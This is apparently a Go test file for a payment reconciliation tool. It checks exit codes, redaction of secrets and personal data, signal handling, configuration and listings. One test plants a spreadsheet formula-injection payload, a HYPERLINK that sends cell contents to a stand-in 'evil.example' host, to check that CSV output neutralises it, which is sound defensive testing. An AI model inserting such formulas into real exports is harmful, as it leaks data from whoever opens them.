package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io/fs"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/vbauerster/mpb/v8"

	"recon/extract"
	"recon/extract/raw"
	"recon/transform"
)

var runArgs = []string{"run", "--from", dayN(0), "--to", dayN(2)}

func TestExitCodes(t *testing.T) {
	tests := []struct {
		name   string
		setup  func(*network)
		args   []string
		want   int
		stderr string
	}{
		{"0 ok, breaks found without --fail-on-breaks", nil, nil, exitOK, ""},
		{"1 error: the token service refuses the secret", func(*network) { t.Setenv("RECON_CLIENT_SECRET", "wrong") }, nil, exitError, "token"},
		{"2 usage: bad date", nil, []string{"--to", "2026-02-30"}, exitUsage, "want YYYY-MM-DD"},
		{"2 usage: bad configuration", func(*network) { t.Setenv("RECON_REPORT_FORMAT", "XML") }, nil, exitUsage, "XML"},
		{"3 incomplete: a report FAILED", func(n *network) { n.failReports(raw.ReportRecon) }, []string{"--fail-on-breaks"}, exitIncomplete, "incomplete"},
		{"4 breaks with --fail-on-breaks", nil, []string{"--fail-on-breaks"}, exitBreaks, "open breaks"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			n := newNetwork(t, 3)
			if tt.setup != nil {
				tt.setup(n)
			}
			code, stdout, stderr := run(t, append(slices.Clone(runArgs), tt.args...)...)
			if code != tt.want || !strings.Contains(stderr, tt.stderr) {
				t.Fatalf("exit %d, want %d with %q\nstdout:\n%s\nstderr:\n%s", code, tt.want, tt.stderr, stdout, stderr)
			}
			_, err := os.Stat(n.env["RECON_DB"])
			if published := err == nil; published != (code == exitOK || code >= exitIncomplete) {
				t.Errorf("exit %d, database published: %v", code, published)
			}
		})
	}
}

// TestDryRun prints the plan of a 200-day range and makes no request.
func TestDryRun(t *testing.T) {
	n := newNetwork(t, 1)
	from, chunk, to := dayN(-170), dayN(-170+89), dayN(-170+199)
	code, stdout, stderr := run(t, "run", "--from", from, "--to", to, "--dry-run")
	if code != exitOK {
		t.Fatalf("exit %d\n%s", code, stderr)
	}
	if n.count() != 0 {
		t.Errorf("dry run made %d requests", n.count())
	}
	for _, want := range []string{from + ".." + to + " (200 days)", "PAYMENT_OPS: 3 chunks", "RECON: 3 chunks",
		"FAILURE_CONVERSION_SSA: 3 chunks", "PAYMENT_OPS " + from + ".." + chunk, "statement acme_usd@", "liquidations " + from,
		"payments by modified_at since the window's start " + from, "transfers " + from, "fees", "balances", "wallet v-treasury/w-ops " + from, "notifications " + from, "payments labelled FORWARDED (sweep, any date)", "at least 27 requests"} {
		if !strings.Contains(stdout, want) {
			t.Errorf("plan lacks %q:\n%s", want, stdout)
		}
	}
	entries, _ := os.ReadDir(n.dir)
	if len(entries) != 0 {
		t.Errorf("dry run wrote %v", entries)
	}
}

// TestRedaction captures every log line of a full run at debug level: none
// holds the client secret, a bearer token or a remitter's or beneficiary's
// name or account, and every line carries the run id.
func TestRedaction(t *testing.T) {
	n := newNetwork(t, 3)
	code, stdout, stderr := run(t, append(slices.Clone(runArgs), "--log-level", "debug")...)
	if code != exitOK {
		t.Fatalf("exit %d\n%s", code, stderr)
	}
	secrets := []string{n.env["RECON_CLIENT_SECRET"]}
	for tok := range n.bearers {
		secrets = append(secrets, tok)
	}
	if len(secrets) < 2 {
		t.Fatal("no bearer token seen")
	}
	people := personalData(t, n.env["RECON_ARCHIVE_URL"])
	for _, s := range append(secrets, people...) {
		if strings.Contains(stderr, s) || strings.Contains(stdout, s) {
			t.Errorf("output holds %q", s)
		}
	}
	lines := strings.Split(strings.TrimSpace(stderr), "\n")
	if len(lines) < 10 {
		t.Fatalf("only %d log lines", len(lines))
	}
	for _, l := range lines {
		var rec map[string]any
		if err := json.Unmarshal([]byte(l), &rec); err != nil {
			t.Fatalf("not a JSON log line (stderr is no terminal): %q", l)
		}
		if id, _ := rec["run_id"].(string); !strings.HasPrefix(id, "r-") {
			t.Errorf("line without run_id: %s", l)
		}
	}
	if strings.Contains(stderr, "\x1b") {
		t.Error("terminal escapes (progress bars) in a log that is no terminal")
	}
}

// personalData returns every remitter and beneficiary name and account of
// the PAYMENT_OPS reports a run archived.
func personalData(t *testing.T, archive string) []string {
	t.Helper()
	seen := map[string]bool{}
	err := filepath.WalkDir(archive, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.Contains(p, "PAYMENT_OPS") || !strings.HasSuffix(p, ".csv") {
			return err
		}
		f, err := os.Open(p)
		if err != nil {
			return err
		}
		defer f.Close()
		recs, err := csv.NewReader(f).ReadAll()
		if err != nil || len(recs) == 0 {
			return err
		}
		for i, col := range recs[0] {
			if strings.HasPrefix(col, "remitter_") || strings.HasPrefix(col, "beneficiary_") {
				for _, r := range recs[1:] {
					if r[i] != "" {
						seen[r[i]] = true
					}
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(seen) < 20 {
		t.Fatalf("only %d names and accounts found in the archived reports", len(seen))
	}
	out := make([]string, 0, len(seen))
	for s := range seen {
		out = append(out, s)
	}
	return out
}

// TestSIGTERM runs recon as a child process, stops it with SIGTERM while it
// downloads, and checks that it exits promptly leaving the database and the
// archive as they were. Meanwhile a second writer is refused, naming the child.
func TestSIGTERM(t *testing.T) {
	n := newNetwork(t, 3)
	if code, _, stderr := run(t, runArgs...); code != exitOK {
		t.Fatalf("first run: exit %d\n%s", code, stderr)
	}
	before := tree(t, n.dir)

	entered := make(chan struct{}, 1)
	n.setFault(func(w http.ResponseWriter, r *http.Request) bool {
		if !strings.HasPrefix(r.URL.Path, extract.PathReportDownload) {
			return false
		}
		select {
		case entered <- struct{}{}:
		default:
		}
		<-r.Context().Done() // hang until the client gives up
		return true
	})
	child := exec.Command(os.Args[0], runArgs...)
	child.Env = append(os.Environ(), "RECON_TEST_MAIN=1")
	var stdout, stderr bytes.Buffer
	child.Stdout, child.Stderr = &stdout, &stderr
	if err := child.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- child.Wait() }()
	select {
	case <-entered:
	case err := <-done:
		t.Fatalf("child ended early: %v\n%s", err, stderr.String())
	case <-time.After(time.Minute):
		child.Process.Kill()
		t.Fatal("child never reached a download")
	}

	// A second writer fails fast and names the holder.
	code, _, errs := run(t, runArgs...)
	if code != exitError || !strings.Contains(errs, "pid "+strconv.Itoa(child.Process.Pid)) || !strings.Contains(errs, strings.Join(runArgs, " ")) {
		t.Errorf("second writer: exit %d, %q; want exit 1 naming pid %d", code, errs, child.Process.Pid)
	}

	if err := child.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-done:
		var ee *exec.ExitError
		if !errors.As(err, &ee) || ee.ExitCode() != exitError {
			t.Errorf("child: %v, want exit %d", err, exitError)
		}
	case <-time.After(time.Minute):
		child.Process.Kill()
		t.Fatal("child did not exit within a minute of SIGTERM")
	}
	if !strings.Contains(stderr.String(), "stopped: nothing was published") {
		t.Errorf("child stderr:\n%s", stderr.String())
	}
	if diff := cmp.Diff(before, tree(t, n.dir)); diff != "" {
		t.Errorf("database or archive changed (-before +after):\n%s", diff)
	}
}

// TestConfigPrecedence: flags > RECON_* variables > config file > defaults.
func TestConfigPrecedence(t *testing.T) {
	hermetic(t)
	dir := t.TempDir()
	file := filepath.Join(dir, "recon.toml")
	writeFile(t, file, 0o600, `
db = "file.duckdb"
work_dir = "file-work"
accounts = ["a@rn.x", "b@rn.y"]
recheck_days = 3
client_secret = "file-secret-value"

[params.payment_missing_in_statement]
grace = "48 hours"
`)
	t.Setenv("RECON_CONFIG", file)
	t.Setenv("RECON_DB", "env.duckdb")
	t.Setenv("RECON_WORK_DIR", "env-work")
	_, stdout, _ := run(t, "config", "check", "--work-dir", "flag-work")
	got := settingsTable(stdout)
	want := map[string][2]string{
		"db":            {"env.duckdb", "env RECON_DB"},
		"work_dir":      {"flag-work", "flag --work-dir"},
		"accounts":      {"a@rn.x,b@rn.y", "file " + file},
		"recheck_days":  {"3", "file " + file},
		"catch_up_days": {"35", "default"},
		"client_secret": {"[redacted]", "file " + file},
		"params":        {"payment_missing_in_statement.grace=48 hours", "file " + file},
	}
	for k, w := range want {
		if got[k] != w {
			t.Errorf("%s = %q, want %q", k, got[k], w)
		}
	}
	if strings.Contains(stdout, "file-secret-value") {
		t.Error("config check prints the secret")
	}
}

// TestConfigCheckProblems: every problem is reported at once.
func TestConfigCheckProblems(t *testing.T) {
	hermetic(t)
	dir := t.TempDir()
	file := filepath.Join(dir, "recon.toml")
	writeFile(t, file, 0o644, `
colour = "red"
recheck_days = "many"
client_secret = "s3cr3t-in-file"
[params]
"no_such_rule.x" = 1
`)
	t.Setenv("RECON_CONFIG", file)
	t.Setenv("RECON_CRON", "every night")
	t.Setenv("RECON_LOG_LEVEL", "loud")
	t.Setenv("RECON_SERVER_URL", "ftp://server")
	code, stdout, _ := run(t, "config", "check", "--db", filepath.Join(dir, "missing", "recon.duckdb"))
	if code != exitUsage {
		t.Errorf("exit %d, want %d", code, exitUsage)
	}
	for _, want := range []string{`unknown key "colour"`, `RECON_RECHECK_DAYS "many"`, "readable by others", "RECON_CRON",
		"RECON_LOG_LEVEL", "RECON_SERVER_URL \"ftp://server\"", "RECON_AUTH_URL is not set", "RECON_ACCOUNTS lists no account",
		"no_such_rule.x", "its folder does not exist"} {
		if !strings.Contains(stdout, want) {
			t.Errorf("problems lack %q:\n%s", want, stdout)
		}
	}
	if strings.Contains(stdout, "s3cr3t-in-file") {
		t.Error("config check prints the secret")
	}
}

func writeFile(t *testing.T, path string, mode os.FileMode, body string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(body), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, mode); err != nil {
		t.Fatal(err)
	}
}

// settingsTable reads config check's table: key -> {value, from}.
func settingsTable(out string) map[string][2]string {
	m := map[string][2]string{}
	for _, l := range strings.Split(out, "\n") {
		f := regexp.MustCompile(`\s{2,}`).Split(strings.TrimSpace(l), -1) // columns are padded by 2+ spaces
		if len(f) >= 3 {
			m[f[0]] = [2]string{f[1], strings.Join(f[2:], " ")}
		}
	}
	return m
}

// TestListings checks runs, breaks and rules list in every format after a run.
func TestListings(t *testing.T) {
	newNetwork(t, 3)
	if code, _, _ := run(t, "runs"); code != exitError {
		t.Errorf("runs before any run: exit %d, want %d", code, exitError)
	}
	if code, _, stderr := run(t, runArgs...); code != exitOK {
		t.Fatalf("run: exit %d\n%s", code, stderr)
	}
	var runs []map[string]*string
	jsonOut(t, &runs, "runs", "--format", "json")
	if len(runs) != 1 || *runs[0]["verdict"] != "complete" || *runs[0]["window_from"] != dayN(0) || runs[0]["reasons"] != nil {
		t.Errorf("runs: %v", runs)
	}

	code, stdout, _ := run(t, "breaks", "--open", "--severity", "P1", "--format", "csv")
	recs, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if code != exitOK || err != nil || len(recs) < 2 {
		t.Fatalf("breaks csv: exit %d, %v:\n%s", code, err, stdout)
	}
	sev, status := slices.Index(recs[0], "severity"), slices.Index(recs[0], "status")
	for _, r := range recs[1:] {
		if r[sev] != "P1" || r[status] == "resolved" {
			t.Errorf("break %v is not an open P1", r)
		}
	}
	var breaks []map[string]*string
	jsonOut(t, &breaks, "breaks", "--rule", "ops_missing_in_recon,recon_missing_in_ops", "--format", "json")
	if len(breaks) == 0 {
		t.Fatal("no breaks of the two rules")
	}
	for _, b := range breaks {
		if r := *b["rule_id"]; r != "ops_missing_in_recon" && r != "recon_missing_in_ops" {
			t.Errorf("break of rule %s", r)
		}
		if b["expected"] == nil && b["detail"] == nil {
			t.Errorf("json lacks the full columns: %v", b)
		}
	}
	code, stdout, _ = run(t, "breaks", "--open")
	if code != exitOK || !strings.Contains(stdout, "BREAK_ID") || !strings.Contains(stdout, "payment_missing_in_statement") {
		t.Errorf("breaks table: exit %d\n%s", code, stdout)
	}

	var rules []map[string]*string
	jsonOut(t, &rules, "rules", "list", "--format", "json", "--param", "payment_missing_in_statement.grace=48 hours")
	found := false
	for _, r := range rules {
		if *r["rule_id"] == "payment_missing_in_statement" {
			found = strings.Contains(*r["params"], "grace=48 hours*")
		}
	}
	if !found {
		t.Errorf("rules list lacks the override: %v", rules)
	}

	for _, args := range [][]string{
		{"breaks", "--format", "xml"}, {"breaks", "--severity", "P9"}, {"runs", "--limit", "0"},
		{"rules", "list", "--param", "no_such_rule.x=1"}, {"run", "--from", "yesterday"},
	} {
		if code, _, _ := run(t, args...); code != exitUsage {
			t.Errorf("%v: exit %d, want %d", args, code, exitUsage)
		}
	}
}

func jsonOut(t *testing.T, v any, args ...string) {
	t.Helper()
	code, stdout, stderr := run(t, args...)
	if code != exitOK {
		t.Fatalf("%v: exit %d\n%s", args, code, stderr)
	}
	if err := json.Unmarshal([]byte(stdout), v); err != nil {
		t.Fatalf("%v: %v\n%s", args, err, stdout)
	}
}

// TestHelp: every command has --help with examples.
func TestHelp(t *testing.T) {
	for _, path := range [][]string{{}, {"run"}, {"load"}, {"schedule"}, {"demo"}, {"sandbox"}, {"runs"}, {"breaks"},
		{"rules"}, {"rules", "list"}, {"config"}, {"config", "check"}, {"archive"}, {"replay"}, {"diff"}} {
		code, stdout, _ := run(t, append(path, "--help")...)
		if code != exitOK || !strings.Contains(stdout, "Examples:") {
			t.Errorf("recon %s --help: exit %d, no examples:\n%s", strings.Join(path, " "), code, stdout)
		}
	}
}

// TestSchedule starts the scheduler, refuses a second one, and stops
// cleanly (exit 0) when its context ends.
func TestSchedule(t *testing.T) {
	newNetwork(t, 1)
	t.Setenv("RECON_CRON", "0 0 1 1 *") // no firing while the test runs
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var errb syncBuffer
	done := make(chan int, 1)
	go func() { done <- Run(ctx, []string{"schedule"}, strings.NewReader(""), &bytes.Buffer{}, &errb) }()
	deadline := time.Now().Add(time.Minute)
	for !strings.Contains(errb.String(), "scheduler started") {
		if time.Now().After(deadline) {
			t.Fatalf("scheduler did not start:\n%s", errb.String())
		}
		time.Sleep(10 * time.Millisecond)
	}
	code, _, stderr := run(t, "schedule")
	if code != exitError || !strings.Contains(stderr, "another scheduler") || !strings.Contains(stderr, "pid "+strconv.Itoa(os.Getpid())) {
		t.Errorf("second scheduler: exit %d\n%s", code, stderr)
	}
	cancel()
	if code := <-done; code != exitOK {
		t.Errorf("scheduler exit %d\n%s", code, errb.String())
	}
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// TestProgress draws the bars into a buffer, as on a terminal.
func TestProgress(t *testing.T) {
	var buf syncBuffer
	pr := newProgress(&buf, mpb.WithAutoRefresh(), mpb.WithWidth(120))
	ex, ld := pr.extractTrace(), pr.loadTrace()
	ex.Planned(2)
	ex.Polled("r1", extract.StatusPending)
	ex.Downloaded(3 << 20)
	ex.JobDone()
	ex.JobDone()
	ld.Started(3)
	ld.Loaded(transform.FileStats{Rows: 40}, 2) // a statement slice of two pages
	ld.Loaded(transform.FileStats{Rows: 2}, 1)
	pr.stop()
	out := buf.String()
	for _, want := range []string{"extract", "2/2", "1 polls", "3.0 MiB", "load", "3/3", "42 rows"} {
		if !strings.Contains(out, want) {
			t.Errorf("progress lacks %q:\n%s", want, out)
		}
	}
}

// TestConfigFileSecretNeverShown: a malformed secret in the config file is
// reported without its value.
func TestConfigFileSecretNeverShown(t *testing.T) {
	hermetic(t)
	for _, body := range []string{
		"client_secret = \"Zq9secret\ndb = \"x\"\n",  // unterminated string
		"client_secret = Zq9secret\n",                // bare word
		"client_secret = [\"Zq9secret\"]\n",          // wrong type
		"client_secret = 12345\nclient_secret = 1\n", // duplicate key
	} {
		file := filepath.Join(t.TempDir(), "recon.toml")
		writeFile(t, file, 0o600, body)
		code, stdout, stderr := run(t, "config", "check", "--config", file)
		if code != exitUsage || !strings.Contains(stdout, "config file "+file) {
			t.Errorf("%q: exit %d, no problem named:\n%s", body, code, stdout)
		}
		// The file's path is cut first: its random temporary directory may hold "12345".
		shown := strings.ReplaceAll(stdout+stderr, file, "")
		if strings.Contains(shown, "Zq9") || strings.Contains(shown, "12345") {
			t.Errorf("%q: the secret is shown:\n%s%s", body, stdout, stderr)
		}
	}
}

// TestRunNightly: run --nightly plans what a nightly firing would run:
// from the day after the last complete run (within --catch-up-days) to yesterday.
func TestRunNightly(t *testing.T) {
	newNetwork(t, 3)
	if code, _, stderr := run(t, runArgs...); code != exitOK {
		t.Fatalf("run: exit %d\n%s", code, stderr)
	}
	code, stdout, stderr := run(t, "run", "--nightly", "--catch-up-days", "270", "--dry-run")
	if code != exitOK {
		t.Fatalf("exit %d\n%s", code, stderr)
	}
	yesterday := time.Now().UTC().Truncate(24*time.Hour).AddDate(0, 0, -1)
	from := day0.AddDate(0, 0, 3) // the day after the last complete run
	if floor := yesterday.AddDate(0, 0, -269); from.Before(floor) {
		from = floor
	}
	if want := "reconcile " + from.Format(raw.DateLayout) + ".." + yesterday.Format(raw.DateLayout); !strings.Contains(stdout, want) {
		t.Errorf("plan lacks %q:\n%s", want, stdout)
	}
	if code, _, _ := run(t, "run", "--nightly", "--from", "yesterday"); code != exitUsage {
		t.Errorf("--nightly with --from: exit %d, want %d", code, exitUsage)
	}
}

// TestCSVOutputNeutralisesFormulas: every CSV a listing prints (breaks, runs,
// diff and rules list share one writer) neutralises spreadsheet formulas as
// breaks.csv does, and keeps plain decimals summable.
func TestCSVOutputNeutralisesFormulas(t *testing.T) {
	hermetic(t)
	src, err := os.ReadFile(filepath.Join("..", "..", "rules", "fx_rate_outlier.sql"))
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	evil := `=HYPERLINK("http://evil.example/?"&A1,"x")`
	body := regexp.MustCompile(`(?m)^-- description: .*$`).ReplaceAllString(string(src), "-- description: "+evil)
	writeFile(t, filepath.Join(dir, "fx_rate_outlier.sql"), 0o644, body)
	code, stdout, stderr := run(t, "rules", "list", "--rules-dir", dir, "--format", "csv")
	if code != exitOK {
		t.Fatalf("rules list: exit %d\n%s", code, stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	desc := slices.Index(recs[0], "description")
	found := false
	for _, r := range recs[1:] {
		if r[0] == "fx_rate_outlier" {
			found = true
			if r[desc] != "'"+evil {
				t.Errorf("description cell %q, want it neutralised %q", r[desc], "'"+evil)
			}
		}
	}
	if !found {
		t.Fatalf("no fx_rate_outlier row:\n%s", stdout)
	}

	var buf bytes.Buffer
	cells := []string{"=1+1", "-12.50", "@SUM(A1)", "+33", "plain"}
	tb := table{cols: []string{"a", "b", "c", "d", "e"}}
	tb.rows = slices.Values([][]*string{{&cells[0], &cells[1], &cells[2], &cells[3], &cells[4]}})
	if err := tb.write(&buf, "csv"); err != nil {
		t.Fatal(err)
	}
	if want := "a,b,c,d,e\r\n'=1+1,-12.50,'@SUM(A1),+33,plain\r\n"; buf.String() != want {
		t.Errorf("csv %q, want %q", buf.String(), want)
	}
}

// TestFirstRunArchivesBesideTheDatabase: a newcomer who exported only what
// recon sandbox prints (no RECON_ARCHIVE_URL) gets a run archived to
// recon-archive beside the database, is told so, and config check names the
// default as the archive's source.
func TestFirstRunArchivesBesideTheDatabase(t *testing.T) {
	n := newNetwork(t, 1)
	t.Setenv("RECON_ARCHIVE_URL", "")
	want := filepath.Join(n.dir, "recon-archive")
	code, stdout, _ := run(t, "config", "check")
	if got := settingsTable(stdout)["archive_url"]; got != [2]string{want, "default (recon-archive beside RECON_DB)"} {
		t.Errorf("config check: archive_url %q, want %q from the default\n%s", got, want, stdout)
	}
	if strings.Contains(stdout, "RECON_ARCHIVE_URL") {
		t.Errorf("config check reports the archive as a problem (exit %d):\n%s", code, stdout)
	}
	code, stdout, stderr := run(t, "run", "--from", dayN(0), "--to", dayN(0))
	if code != exitOK {
		t.Fatalf("run without RECON_ARCHIVE_URL: exit %d\n%s", code, stderr)
	}
	if !strings.Contains(stderr, "RECON_ARCHIVE_URL is not set: runs are archived to a local folder") || !strings.Contains(stderr, want) {
		t.Errorf("the run does not say where it archives:\n%s", stderr)
	}
	if !strings.Contains(stdout, "archive:  "+want) {
		t.Errorf("run output lacks the archive %s:\n%s", want, stdout)
	}
	if m, _ := filepath.Glob(filepath.Join(want, "run_date=*", "run_id=*", "manifest.json")); len(m) != 1 {
		t.Errorf("manifests under %s: %v, want one", want, m)
	}
}

// TestAnalystNeverStopsTheNight: while another process holds the published
// file open read-write (DuckDB then refuses even a read-only open), the
// listings still read the file, and run --nightly reads the run ledger, runs,
// publishes and writes its metrics.
func TestAnalystNeverStopsTheNight(t *testing.T) {
	n := newNetwork(t, 3)
	if code, _, stderr := run(t, runArgs...); code != exitOK {
		t.Fatalf("run: exit %d\n%s", code, stderr)
	}
	holder(t, n.env["RECON_DB"])
	var runs []map[string]*string
	jsonOut(t, &runs, "runs", "--format", "json")
	if len(runs) != 1 {
		t.Errorf("runs listed: %d, want 1", len(runs))
	}
	if code, _, stderr := run(t, "breaks", "--open"); code != exitOK {
		t.Errorf("breaks with the database held: exit %d\n%s", code, stderr)
	}
	metricsFile := filepath.Join(n.dir, "recon.prom")
	code, stdout, stderr := run(t, "run", "--nightly", "--metrics-file", metricsFile)
	if code != exitOK {
		t.Fatalf("run --nightly with the database held: exit %d\n%s\n%s", code, stdout, stderr)
	}
	if _, err := os.Stat(metricsFile); err != nil || strings.Contains(stderr, "metrics file not written") {
		t.Errorf("metrics not written (%v):\n%s", err, stderr)
	}
	jsonOut(t, &runs, "runs", "--format", "json")
	if len(runs) != 2 {
		t.Errorf("runs listed after the nightly run: %d, want 2", len(runs))
	}
	if m, _ := filepath.Glob(n.env["RECON_DB"] + ".work-*"); len(m) != 0 {
		t.Errorf("copies left: %v", m)
	}
}

// TestRunTimeoutExitsIncomplete: a statement response that stalls after its
// headers is cut by RECON_RUN_TIMEOUT; the run exits 3 (incomplete) saying
// why, and recon runs lists it as incomplete.
func TestRunTimeoutExitsIncomplete(t *testing.T) {
	n := newNetwork(t, 1)
	n.setFault(func(w http.ResponseWriter, r *http.Request) bool {
		if !strings.Contains(r.URL.Path, "/statement/") {
			return false
		}
		w.WriteHeader(http.StatusOK)
		w.Write([]byte(`{"account_name": `))
		w.(http.Flusher).Flush()
		<-r.Context().Done()
		return true
	})
	t.Setenv("RECON_RUN_TIMEOUT", "300ms")
	code, stdout, stderr := run(t, "run", "--from", dayN(0), "--to", dayN(0))
	if code != exitIncomplete || !strings.Contains(stdout, "incomplete: run timeout after 300ms") {
		t.Fatalf("stalled run: exit %d, want %d\n%s\n%s", code, exitIncomplete, stdout, stderr)
	}
	var runs []map[string]*string
	jsonOut(t, &runs, "runs", "--format", "json")
	if len(runs) != 1 || *runs[0]["verdict"] != "incomplete" || !strings.Contains(*runs[0]["reasons"], "run timeout") {
		t.Errorf("runs: %v", runs)
	}
	if code, _, _ := run(t, "run", "--from", dayN(0), "--to", dayN(0), "--run-timeout", "soon"); code != exitUsage {
		t.Errorf("--run-timeout soon: exit %d, want %d", code, exitUsage)
	}
}

// TestHTTPBoundSettings: the HTTP bounds come from their variables (shown
// with their source by config check), sizes take KiB..TiB suffixes, and bad
// values are problems.
func TestHTTPBoundSettings(t *testing.T) {
	hermetic(t)
	t.Setenv("RECON_MAX_BODY", "1KiB")
	t.Setenv("RECON_BODY_IDLE_TIMEOUT", "5s")
	t.Setenv("RECON_INSECURE_HTTP", "true")
	_, stdout, _ := run(t, "config", "check")
	got := settingsTable(stdout)
	want := map[string][2]string{
		"max_body":           {"1KiB", "env RECON_MAX_BODY"},
		"body_idle_timeout":  {"5s", "env RECON_BODY_IDLE_TIMEOUT"},
		"insecure_http":      {"true", "env RECON_INSECURE_HTTP"},
		"max_download_bytes": {"50GiB", "default"},
	}
	for k, w := range want {
		if got[k] != w {
			t.Errorf("%s = %q, want %q", k, got[k], w)
		}
	}

	t.Setenv("RECON_MAX_BODY", "lots")
	t.Setenv("RECON_BODY_IDLE_TIMEOUT", "-1s")
	t.Setenv("RECON_MAX_DOWNLOAD_BYTES", "0")
	_, stdout, _ = run(t, "config", "check")
	for _, want := range []string{`RECON_MAX_BODY "lots"`, `RECON_BODY_IDLE_TIMEOUT "-1s"`, `RECON_MAX_DOWNLOAD_BYTES "0"`} {
		if !strings.Contains(stdout, want) {
			t.Errorf("problems lack %q:\n%s", want, stdout)
		}
	}

	for k, want := range map[string]int64{"max_body": extract.DefaultMaxBodyBytes, "max_download_bytes": extract.DefaultMaxDownloadBytes} {
		if n, err := parseBytes(settingNamed(k).def); err != nil || n != want {
			t.Errorf("default of %s is %d bytes, %v; extract's is %d", k, n, err, want)
		}
	}
	for in, want := range map[string]int64{"1": 1, "256MiB": 256 << 20, "50 GiB": 50 << 30, "2TiB": 2 << 40, "3KiB": 3 << 10} {
		if n, err := parseBytes(in); err != nil || n != want {
			t.Errorf("parseBytes(%q) = %d, %v; want %d", in, n, err, want)
		}
	}
	for _, in := range []string{"", "-1", "1.5GiB", "1GB", "9999999999TiB"} {
		if _, err := parseBytes(in); err == nil {
			t.Errorf("parseBytes(%q) accepted", in)
		}
	}
}
